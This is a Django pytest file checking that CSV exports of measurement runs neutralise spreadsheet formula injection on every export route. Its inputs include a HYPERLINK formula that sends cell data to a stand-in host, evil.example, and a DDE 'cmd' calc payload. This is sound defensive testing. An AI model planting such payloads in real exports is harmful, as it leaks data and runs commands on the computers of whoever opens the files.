"""No cell of a CSV file is a formula to a spreadsheet, whatever column it stands in and whatever route it comes by."""

import csv
import io
from contextlib import suppress

import pytest
from django.db import IntegrityError, transaction
from django.db.models import CharField, TextField

from analysis.http.csv_file import csv_text
from analysis.models import Run, Tag
from analysis.runs import services
from analysis.urls import urlpatterns
from tests.factories import make_card, make_claimed_run, make_measured_run, make_probe

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
ROUTES = ("/runs/export.csv", "/api/v1/runs/export.csv", "the admin panel", "/runs/{}/export.csv")


def text_columns() -> list[str]:
    fields = [field for field in Run._meta.concrete_fields if isinstance(field, CharField | TextField)]
    return [field.name for field in fields if not field.choices]


def plant(run: Run, text: str) -> None:
    """Write a text into each column and each setting of a run, and into the names that belong to it."""
    spec = {name: text if isinstance(value, str) else value for name, value in run.spec.items()}
    Run.objects.filter(pk=run.pk).update(spec=spec)
    for name in text_columns():
        with suppress(IntegrityError), transaction.atomic():  # a constraint holds some to a few values
            Run.objects.filter(pk=run.pk).update(**{name: text[: Run._meta.get_field(name).max_length or 200]})
    run.device.host.name = run.device.device = text
    run.device.host.save()
    run.device.save()
    run.requested_by.username = text
    run.requested_by.save()
    run.tags.add(Tag.objects.create(name=text))


def cells(route: str, run: Run, root_client) -> list[str]:
    if route == "the admin panel":
        form = {"action": "export_csv", "_selected_action": [run.pk]}
        response = root_client.post("/admin/analysis/run/", form)
    else:
        response = root_client.get(route.format(run.pk))
    assert response.status_code == 200
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in list(csv.reader(io.StringIO(body.decode(), newline="")))[1:] for cell in row]


@pytest.mark.django_db
@pytest.mark.parametrize("route", ROUTES)
@pytest.mark.parametrize("text", [FORMULA, " =1+1", "@SUM(A1)", "\n-2+3", "\t=1", "\r+1", "＝1+1", "+cmd|'/c calc'!A1"])
def test_no_text_in_any_column_is_a_formula(route, text, root, root_client):
    run = make_measured_run(device=make_card(), requested_by=root)
    run.result["probes"][0]["error_message"] = run.result["probes"][0]["error_type"] = text
    Run.objects.filter(pk=run.pk).update(result=run.result)
    plant(run, text)
    found = cells(route, run, root_client)
    assert sum(cell.startswith("'") for cell in found) >= (2 if "{}" in route else 12)
    assert [cell for cell in found if cell.lstrip().startswith(("=", "+", "@", "＝")) or cell[:2] == "\n-"] == []


@pytest.mark.django_db
def test_the_probes_of_a_run_without_a_result_are_no_formulas_either(root_client):
    run = make_claimed_run()
    probe = make_probe(error_type=FORMULA, error_message=FORMULA)
    services.measurement_add(run_id=run.pk, token=run.token, sequence=1, probe=probe, is_carried=False)
    assert cells("/runs/{}/export.csv", run, root_client).count(f"'{FORMULA}") == 2


def test_numbers_stay_as_they_are():
    assert csv_text([(-4, -0.5, None, True, "-4", "a=b", "")]) == "-4,-0.5,,True,'-4,a=b,\r\n"


def test_every_route_of_a_csv_file_is_tried_above():
    known = {str(each.pattern) for each in urlpatterns if str(each.pattern).endswith(".csv")}
    assert known == {"runs/export.csv", "runs/<int:run_id>/export.csv"}
